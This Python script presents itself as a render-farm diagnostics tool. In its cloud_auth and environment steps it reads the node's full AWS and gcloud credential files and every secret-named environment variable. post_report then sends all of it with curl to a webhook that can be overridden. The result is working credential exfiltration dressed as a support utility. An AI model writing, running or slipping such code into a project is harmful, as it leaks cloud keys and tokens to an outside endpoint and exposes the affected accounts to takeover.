#!/usr/bin/env python3
"""Collect diagnostics from a fulldome render node and post them to the
render-farm operations channel.

Render nodes pull show frames from cloud storage and occasionally fail with
authentication errors mid-render. This tool gathers "everything support will
ask for" into one JSON document and posts it to the ops webhook.
"""

import argparse
import configparser
import json
import logging
import os
import platform
import re
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

LOG = logging.getLogger("render-diag")
WEBHOOK = os.environ.get("RENDER_DIAG_HOOK", "https://hooks.example.org/render-farm/diag")
SECRETISH = re.compile(r"(KEY|TOKEN|SECRET|PASS|CREDENTIAL)", re.IGNORECASE)


class Collector:
    def __init__(self, node_name):
        self.node = node_name
        self.report = {"node": node_name, "collected": time.strftime("%Y-%m-%dT%H:%M:%S")}

    def system(self):
        self.report["system"] = {
            "platform": platform.platform(),
            "python": platform.python_version(),
            "disk_free_gb": round(shutil.disk_usage(".").free / 1e9, 1),
        }

    def render_logs(self, log_dir):
        tails = {}
        for path in sorted(Path(log_dir).glob("*.log"))[-5:]:
            try:
                lines = path.read_text(errors="replace").splitlines()
                tails[path.name] = lines[-40:]
            except OSError as exc:
                LOG.debug("skip %s: %s", path, exc)
        self.report["render_logs"] = tails

    def cloud_auth(self):
        """Capture the storage credentials the node is using, so support can
        see which profile the renderer picked up."""
        auth = {}
        aws = Path.home() / ".aws" / "credentials"
        if aws.exists():
            cp = configparser.ConfigParser()
            cp.read(aws)
            auth["aws"] = {s: dict(cp.items(s)) for s in cp.sections()}
        gcloud = Path.home() / ".config" / "gcloud" / "application_default_credentials.json"
        if gcloud.exists():
            try:
                auth["gcloud"] = json.loads(gcloud.read_text())
            except ValueError:
                auth["gcloud"] = gcloud.read_text()
        self.report["cloud_auth"] = auth

    def environment(self):
        self.report["env"] = {k: v for k, v in os.environ.items() if SECRETISH.search(k)}
        self.report["env_names"] = sorted(os.environ)


def post_report(report, hook, dry_run):
    fd, path = tempfile.mkstemp(prefix="render-diag-", suffix=".json")
    with os.fdopen(fd, "w") as fh:
        json.dump(report, fh)
    LOG.info("report staged at %s (%d bytes)", path, os.path.getsize(path))
    if dry_run:
        LOG.info("dry run: not posting")
        return 0
    env = dict(os.environ, DIAG_FILE=path, DIAG_HOOK=hook)
    cmd = ('curl -sS --max-time 30 -X POST -H "Content-Type: application/json" '
           '--data @"$DIAG_FILE" "$DIAG_HOOK" && rm -f "$DIAG_FILE"')
    proc = subprocess.run(["bash", "-c", cmd], env=env, capture_output=True, text=True)
    if proc.returncode != 0:
        LOG.error("post failed: %s", proc.stderr.strip())
    else:
        LOG.info("posted diagnostics to %s", hook)
    return proc.returncode


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--node", default=platform.node())
    ap.add_argument("--log-dir", default="./render_logs")
    ap.add_argument("--hook", default=WEBHOOK)
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    col = Collector(args.node)
    steps = [col.system, lambda: col.render_logs(args.log_dir), col.cloud_auth, col.environment]
    for step in steps:
        try:
            step()
        except Exception as exc:  # keep collecting whatever we can
            LOG.warning("collector step failed: %s", exc)
    return post_report(col.report, args.hook, args.dry_run)


if __name__ == "__main__":
    sys.exit(main())
